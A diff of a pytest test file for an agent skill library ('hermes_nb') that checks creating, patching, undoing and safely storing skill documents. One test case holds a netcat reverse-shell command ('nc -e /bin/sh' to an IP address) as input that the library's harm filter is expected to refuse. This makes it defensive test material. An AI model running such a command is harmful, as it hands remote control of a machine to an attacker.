@@ -7,7 +7,7 @@ import pytest
 from hermes_nb.skills import history
 from hermes_nb.skills.discovery import Root
 from hermes_nb.skills.document import DOCUMENT_LIMIT, SkillError, problems
-from hermes_nb.skills.editing import Change, diff
+from hermes_nb.skills.editing import Change, diff, replaced
 from hermes_nb.skills.ledger import Origin
 from hermes_nb.skills.library import Library
 from hypothesis import given, settings
@@ -42,18 +42,22 @@ def tree(root: Path):
     }
 
 
+def patch(library, old="axes", new="ticks", name="draw", **details):
+    return library.manage("patch", name, old_string=old, new_string=new, **details)
+
+
 def test_create(library, home, changed):
     origin = Origin(session="s1", turn=3)
     outcome = library.manage("create", "draw", content=text("draw"), category="data", origin=origin)
-    assert outcome.applied
     assert outcome
     assert tree(home) == {"data/draw/SKILL.md": text("draw")}
     assert changed == [outcome]
     assert library.usage()["draw"].origin == origin
     assert library.usage()["draw"].made > 0
-    if os.name == "posix":
-        assert (home / "data/draw").stat().st_mode & 0o777 == 0o700
-        assert (home / "data/draw/SKILL.md").stat().st_mode & 0o777 == 0o600
+    for n in (1, 2):  # a number makes a difference
+        assert library.manage("create", f"report-{n}", content=text(f"report-{n}", f"Report {n}."))
+    assert library.manage("undo").name == "report-2"
+    assert {skill.name for skill in library.list()} == {"draw", "report-1"}
 
 
 @pytest.mark.parametrize(
@@ -62,10 +66,8 @@ def test_create(library, home, changed):
         ("draw", {}, "needs `content`"),
         ("", {"content": text("")}, "no name"),
         ("../draw", {"content": text("../draw")}, "no name for a skill"),
-        ("Draw", {"content": text("Draw")}, "no name for a skill"),
         ("draw", {"content": text("other")}, "its name is 'other'"),
         ("draw", {"content": "# Just prose"}, "begin with `---`"),
-        ("draw", {"content": text("draw", "x" * 1_025)}, "1,025"),
         ("draw", {"content": text("draw", body="x" * DOCUMENT_LIMIT)}, "is the limit"),
         ("draw", {"content": text("draw"), "category": "../up"}, "is no category"),
         ("draw", {"content": text("draw", body="nc -e /bin/sh 203.0.113.9 80")}, "looks harmful"),
@@ -80,17 +82,12 @@ def test_what_is_not_created(library, home, changed, name, details, why):
     assert changed == []
 
 
-def test_a_skill_that_is_there_is_not_created_again(library, tmp_path):
-    put(tmp_path / "shipped", "draw")
-    outcome = library.manage("create", "draw", content=text("draw"))
-    assert "exists in shipped skills; patch" in outcome.message
-
-
 def test_near_duplicates_are_refused_with_the_existing_one_named(library, tmp_path):
     put(tmp_path / "shipped", "plot-csv-files", text("plot-csv-files", "Plots CSV files nicely."))
     steps = "\n".join(f"{n}. Do the step {n} with the tool {n * 7}." for n in range(20))
     put(tmp_path / "ext", "tidy", text("tidy", "Tidy up columns of tables.", body=steps))
     for name, description, body in (
+        ("tidy", "Something else entirely.", BODY),
         ("csv-file-plotting", "Something else entirely.", BODY),
         ("plot-csv-fils", "Something else entirely.", BODY),
         ("show-tables", "Plotting of CSV files, nicely.", BODY),
@@ -101,21 +98,6 @@ def test_near_duplicates_are_refused_with_the_existing_one_named(library, tmp_pa
         assert "plot-csv-files" in outcome.message or "tidy" in outcome.message
     different = text("send-mail", "Writes and sends a letter.")
     assert library.manage("create", "send-mail", content=different)
-
-
-def test_a_number_makes_a_difference(library):
-    for n in (1, 2, 3):
-        assert library.manage("create", f"report-{n}", content=text(f"report-{n}"))
-
-
-def test_patch(library, home):
-    put(home, "draw", text("draw").replace("\n", "\r\n"))
-    outcome = library.manage("patch", "draw", old_string="Draw the axes.\n", new_string="Plot.\n")
-    assert outcome.applied
-    assert "-2. Draw the axes." in outcome.diff
-    after = (home / "draw/SKILL.md").read_bytes().decode()
-    assert after == text("draw").replace("Draw the axes.", "Plot.").replace("\n", "\r\n")
-    assert library.usage()["draw"].patches == 1
 
 
 @pytest.mark.parametrize(
@@ -137,7 +119,7 @@ def test_patch(library, home):
 )
 def test_what_is_not_patched(library, home, old, new, why):
     put(home, "draw")
-    outcome = library.manage("patch", "draw", old_string=old, new_string=new)
+    outcome = patch(library, old, new)
     assert not outcome.applied
     assert why in outcome.message
     assert tree(home) == {"draw/SKILL.md": text("draw")}
@@ -155,16 +137,12 @@ def test_what_is_not_patched(library, home, old, new, why):
 )
 def test_what_was_thought_for_another_text_is_refused(library, home, action, details):
     put(home, "draw", files={"references/a.md": "old"})
-    change = Change(action=action, name="draw", **details)
-    seen = library.seen(change)
+    seen = library.seen(Change(action=action, name="draw", **details))
     assert len(seen) == 64
-    relative = details.get("file_path") or "SKILL.md"
-    path = home / "draw" / relative
+    path = home / "draw" / (details.get("file_path") or "SKILL.md")
     before = path.read_text()
     path.write_text(before + "\nMore.\n")
-    outcome = library.manage(action, "draw", seen=seen, **details)
-    assert not outcome.applied
-    assert "has been changed since" in outcome.message
+    assert "changed since" in library.manage(action, "draw", seen=seen, **details).message
     with pytest.raises(SkillError, match="changed since"):
         library.preview(action, "draw", seen=seen, **details)
     path.write_text(before)
@@ -173,30 +151,21 @@ def test_what_was_thought_for_another_text_is_refused(library, home, action, det
 
 def test_a_change_is_found_by_what_was_approved(library, home):
     put(home, "draw")
-    origin = Origin(session="s", proposal="p1")
     assert not library.has_made("p1")
-    assert library.manage(
-        "patch", "draw", old_string="axes", new_string="lines", origin=origin
-    ).applied
+    assert patch(library, "axes", "lines", origin=Origin(session="s", proposal="p1"))
     assert library.has_made("p1")
-    assert library.manage("patch", "draw", old_string="lines", new_string="dots").applied
+    assert patch(library, "lines", "dots")
     assert library.has_made("p1")
-    assert library.manage("undo", "draw").applied
-    assert library.manage("undo", "draw").applied
+    assert library.manage("undo", "draw")
+    assert library.manage("undo", "draw")
     assert not library.has_made("p1")
-
-
-def test_all_places_are_patched_when_asked(library, home):
-    put(home, "draw", text("draw", body="one one one\n"))
-    assert library.manage("patch", "draw", old_string="one", new_string="two", replace_all=True)
-    assert "two two two" in library.view("draw").text
 
 
 def test_a_flaw_of_the_original_does_not_keep_its_body_from_being_patched(library, home):
-    put(home, "draw", text("draw", "Use when: asked " + "x" * 1_030))
-    assert library.manage("patch", "draw", old_string="axes", new_string="ticks")
-    refused = library.manage("patch", "draw", old_string="---\n# How", new_string="# How")
-    assert not refused.applied
+    put(home, "draw", text("draw", "Use when: asked " + "x" * 1_030), category="data")
+    assert patch(library, name="data/draw")
+    assert not patch(library, "---\n# How", "# How").applied
+    assert "ticks" in library.view("draw").text
 
 
 @settings(max_examples=30)
@@ -204,32 +173,50 @@ def test_a_flaw_of_the_original_does_not_keep_its_body_from_being_patched(librar
 def test_a_patched_document_is_valid_or_untouched(tmp_path_factory, old, new, everywhere):
     home = tmp_path_factory.mktemp("home")
     put(home, "draw")
-    library = Library([home])
-    outcome = library.manage(
-        "patch", "draw", old_string=old, new_string=new, replace_all=everywhere
-    )
+    outcome = patch(Library([home]), old, new, replace_all=everywhere)
     after = (home / "draw/SKILL.md").read_bytes().decode()
     assert problems(after, name="draw") == []
     assert outcome.applied or after == text("draw")
 
 
-def test_edit(library, home):
-    put(home, "draw")
-    new = text("draw", "Draws better.", "# New\n")
+@given(st.text(max_size=60), st.text(max_size=20), st.text(max_size=20), st.booleans())
+def test_a_replacement_is_exact_or_refused(text, old, new, everywhere):
+    try:
+        edit = replaced(text, old, new, replace_all=everywhere)
+    except SkillError:
+        return
+    plain, old, new = (part.replace("\r\n", "\n") for part in (text, old, new))
+    assert edit.text.replace("\r\n", "\n") == plain.replace(old, new).replace("\r\n", "\n")
+    assert edit.count == plain.count(old)
+
+
+def test_edit_and_patch_keep_line_ends_and_say_what_they_did(library, home):
+    put(home, "draw", text("draw").replace("\n", "\r\n"))
+    outcome = patch(library, "Draw the axes.\n", "Plot.\n")
+    assert "-2. Draw the axes." in outcome.diff
+    after = (home / "draw/SKILL.md").read_bytes().decode()
+    assert after == text("draw").replace("Draw the axes.", "Plot.").replace("\n", "\r\n")
+    assert library.usage()["draw"].patches == 1
+    new = text("draw", "Draws better.", "# New\n\none one\n")
     assert "Draws better" in library.manage("edit", "draw", content=new).diff
-    assert tree(home) == {"draw/SKILL.md": new}
+    assert patch(library, "one", "two", replace_all=True)
+    assert tree(home) == {"draw/SKILL.md": new.replace("one", "two")}
     assert "no name" in library.manage("edit", "draw", content=text("")).message
     assert "no skill 'drwa'" in library.manage("edit", "drwa", content=new).message
     outcome = library.manage("edit", "draw", content=new, file_path="scripts/a.py")
     assert "use write_file" in outcome.message
+    assert "write_file" in library.manage("rename", "draw").message
+    long = "\n".join(map(str, range(5_000)))
+    assert len(diff(long, long.replace("1", "one"), "SKILL.md")) < 3_200
 
 
 def test_support_files(library, home):
     put(home, "draw")
     path = "references/deep/api.md"
     assert library.manage("write_file", "draw", file_path=path, file_content="one\n")
-    assert library.manage("patch", "draw", file_path=path, old_string="one", new_string="two")
+    assert patch(library, "one", "two", file_path=path)
     assert library.view("draw", path).text == "two\n"
+    assert set(tree(home)) == {"draw/SKILL.md", f"draw/{path}"}
     assert library.manage("remove_file", "draw", file_path=path)
     assert "no file" in library.manage("remove_file", "draw", file_path=path).message
     assert "give `file_path`" in library.manage("write_file", "draw", file_content="x").message
@@ -240,17 +227,6 @@ def test_support_files(library, home):
     refused = library.manage("write_file", "draw", file_path="scripts/a.py", file_content=harm)
     assert "looks harmful" in refused.message
     assert set(tree(home)) == {"draw/SKILL.md"}
-
-
-def test_delete_and_undo(library, home):
-    put(home, "draw", category="data", files={"references/a.md": "x"})
-    before = tree(home)
-    assert library.manage("delete", "draw")
-    assert tree(home) == {}
-    assert not (home / "data").exists()
-    assert library.list() == []
-    assert library.manage("undo", "draw")
-    assert tree(home) == before
 
 
 def test_every_change_can_be_undone(library, home):
@@ -268,22 +244,16 @@ def test_every_change_can_be_undone(library, home):
     for action, details in steps:
         states.append(tree(home))
         assert library.manage(action, "draw", **details)
+    assert not (home / "data").exists()
     for state in reversed(states):
         assert library.manage("undo", "draw")
         assert tree(home) == state
     assert "no change of 'draw' to undo" in library.manage("undo", "draw").message
 
 
-def test_undo_without_a_name_takes_the_last_change(library):
-    for name, what in (("draw", "Draws charts."), ("mail", "Sends letters.")):
-        assert library.manage("create", name, content=text(name, what))
-    assert library.manage("undo").name == "mail"
-    assert [skill.name for skill in library.list()] == ["draw"]
-
-
 def test_undo_does_not_destroy_what_somebody_else_wrote(library, home):
     put(home, "draw")
-    assert library.manage("patch", "draw", old_string="axes", new_string="ticks")
+    assert patch(library)
     (home / "draw/SKILL.md").write_text(text("draw", body="By hand.\n"), encoding="utf-8")
     assert "by other means" in library.manage("undo", "draw").message
     assert "By hand." in tree(home)["draw/SKILL.md"]
@@ -296,16 +266,16 @@ def test_the_history_is_bounded(library, home, monkeypatch):
     monkeypatch.setattr(history, "RECORDS", 5)
     put(home, "draw", text("draw", body="0\n"))
     for n in range(12):
-        assert library.manage("patch", "draw", old_string=f"{n}\n", new_string=f"{n + 1}\n")
+        assert patch(library, f"{n}\n", f"{n + 1}\n")
     assert len(list((home / ".hermes_nb/history").glob("*.json"))) <= 5
     monkeypatch.setattr(history, "BYTES", 1)
-    assert library.manage("patch", "draw", old_string="12\n", new_string="13\n")
+    assert patch(library, "12\n", "13\n")
     assert len(list((home / ".hermes_nb/history").iterdir())) <= 4
 
 
 def test_a_damaged_history_is_passed_over(library, home):
     put(home, "draw")
-    assert library.manage("patch", "draw", old_string="axes", new_string="ticks")
+    assert patch(library)
     folder = home / ".hermes_nb/history"
     record = next(folder.glob("*.json"))
     (folder / "9-1.json").write_text("{")
@@ -313,6 +283,9 @@ def test_a_damaged_history_is_passed_over(library, home):
     (folder / f"{record.stem}x.json").write_text(forged.replace(record.stem, f"{record.stem}x"))
     assert "leads out" in library.manage("undo", "draw").message
     (folder / f"{record.stem}x.json").unlink()
+    old = (home / "draw/SKILL.md").read_bytes()
+    assert patch(library, "ticks", "lines")
+    (home / "draw/SKILL.md").write_bytes(old)  # as a killed process leaves it: no change to undo
     assert library.manage("undo", "draw")
     assert tree(home)["draw/SKILL.md"] == text("draw")
 
@@ -321,35 +294,28 @@ def test_a_skill_from_elsewhere_is_copied_when_it_is_changed(library, home, tmp_
     files = {"scripts/a.py": "print(1)\n", "notes.md": "not part of it"}
     put(tmp_path / "shipped", "draw", category="data", files=files)
     original = tree(tmp_path / "shipped")
-    outcome = library.manage("patch", "draw", old_string="axes", new_string="ticks")
-    assert "in a copy" in outcome.message
+    assert "the user can switch it off" in library.manage("delete", "draw").message
+    assert "in a copy" in patch(library).message
     assert tree(tmp_path / "shipped") == original
     assert set(tree(home)) == {"data/draw/SKILL.md", "data/draw/scripts/a.py"}
     assert library.get("draw").source == "home"
     assert "ticks" in library.view("draw").text
     assert "switch it off" not in library.manage("delete", "draw").message
     assert library.get("draw").source == "shipped"
+    assert library.manage("remove_file", "draw", file_path="scripts/a.py")
+    assert set(tree(home)) == {"data/draw/SKILL.md"}
 
 
-def test_what_comes_from_elsewhere_is_not_deleted(library, tmp_path):
-    put(tmp_path / "ext", "draw")
-    assert "the user can switch it off" in library.manage("delete", "draw").message
-
-
-def test_the_working_directory_is_not_written(library, home, tmp_path):
+def test_neither_the_working_directory_nor_what_a_link_leads_to_is_written(library, home, tmp_path):
     put(tmp_path / "work", "draw")
-    outcome = library.manage("patch", "draw", old_string="axes", new_string="ticks")
-    assert "file tools" in outcome.message
-    assert not home.exists() or tree(home) == {}
-
-
-def test_links_out_of_the_home_are_not_written_through(library, home, tmp_path):
+    assert "file tools" in patch(library).message
     home.mkdir(parents=True)
     (tmp_path / "outside").mkdir()
     (home / "data").symlink_to(tmp_path / "outside")
-    outcome = library.manage("create", "draw", content=text("draw"), category="data")
+    outcome = library.manage("create", "mail", content=text("mail", "Sends."), category="data")
     assert "leads out" in outcome.message
     assert list((tmp_path / "outside").iterdir()) == []
+    assert tree(home) == {}
 
 
 def test_a_home_behind_a_link_works(tmp_path):
@@ -357,39 +323,27 @@ def test_a_home_behind_a_link_works(tmp_path):
     (tmp_path / "link").symlink_to(tmp_path / "real")
     library = Library([tmp_path / "link"])
     assert library.manage("create", "draw", content=text("draw"), category="data")
-    assert library.manage("patch", "draw", old_string="axes", new_string="ticks")
+    assert patch(library)
     assert library.manage("undo")
     assert tree(tmp_path / "real") == {"data/draw/SKILL.md": text("draw")}
 
 
 def test_what_a_killed_process_left_is_swept(library, home):
-    folder = put(home, "draw")
-    orphan = folder / ".SKILL.md.x.hermes-tmp"
+    orphan = put(home, "draw") / ".SKILL.md.x.hermes-tmp"
     orphan.write_text("half")
     stale = home / ".hermes_nb/building/1/draw"
     stale.mkdir(parents=True)
-    assert library.manage("patch", "draw", old_string="axes", new_string="ticks")
+    assert patch(library)
     assert library.manage("create", "mail", content=text("mail", "Sends letters."))
     assert not orphan.exists()
     assert not stale.exists()
 
 
-def test_no_change_leaves_anything_in_a_skills_folder(library, home):
-    assert library.manage("create", "draw", content=text("draw"))
-    assert library.manage("patch", "draw", old_string="axes", new_string="ticks")
-    assert library.manage("write_file", "draw", file_path="references/a.md", file_content="x")
-    assert set(tree(home)) == {"draw/SKILL.md", "draw/references/a.md"}
-
-
 def test_without_a_home_nothing_is_written(tmp_path):
     put(tmp_path / "ext", "draw")
     library = Library([Root(tmp_path / "ext", "external")])
-    assert "no home" in library.manage("patch", "draw", old_string="a", new_string="b").message
+    assert "no home" in patch(library).message
     assert "no home" in library.manage("create", "mail", content=text("mail")).message
-
-
-def test_an_unknown_action_names_the_known_ones(library):
-    assert "write_file" in library.manage("rename", "draw").message
 
 
 def test_a_failing_listener_does_not_undo_the_change(home, caplog):
@@ -403,35 +357,22 @@ def test_previews_show_and_change_nothing(library, home, changed):
     before = tree(home)
     shown = library.preview("patch", "draw", old_string="axes", new_string="ticks")
     assert "-2. Draw the axes." in shown
-    assert text("mail", "Sends letters.") in library.preview(
-        "create", "mail", content=text("mail", "Sends letters.")
-    )
+    mail = text("mail", "Sends letters.")
+    assert mail in library.preview("create", "mail", content=mail)
     assert "Draws a chart" in library.preview("delete", "draw")
     with pytest.raises(SkillError, match="is not there"):
         library.preview("patch", "draw", old_string="absent", new_string="x")
-    with pytest.raises(SkillError, match="exists"):
+    with pytest.raises(SkillError, match="exists in home skills; patch"):
         library.preview("create", "draw", content=text("draw"))
     assert tree(home) == before
     assert changed == []
 
 
-def test_a_change_that_never_happened_is_no_change_to_undo(library, home):
-    """A killed process leaves its record and the old file."""
-    put(home, "draw")
-    assert library.manage("patch", "draw", old_string="axes", new_string="ticks")
-    old = (home / "draw/SKILL.md").read_bytes()
-    assert library.manage("patch", "draw", old_string="ticks", new_string="lines")
-    (home / "draw/SKILL.md").write_bytes(old)
-    assert library.manage("undo", "draw")
-    assert tree(home) == {"draw/SKILL.md": text("draw")}
-
-
-def test_a_skill_may_be_named_with_its_category(library, home):
-    put(home, "draw", category="data")
-    assert library.manage("patch", "data/draw", old_string="axes", new_string="ticks")
-    assert "ticks" in library.view("draw").text
-
-
-def test_a_diff_is_short():
-    before = "\n".join(map(str, range(5_000)))
-    assert len(diff(before, before.replace("1", "one"), "SKILL.md")) < 3_200
+def test_everything_that_is_made_is_the_owners_alone(library, home):
+    before = os.umask(0)
+    try:
+        library.manage("create", name="a", content=text("a"), category="code/python")
+    finally:
+        os.umask(before)
+    made = [home.parent, *home.parent.rglob("*")]
+    assert {oct(each.stat().st_mode & 0o077) for each in made} == {"0o0"}
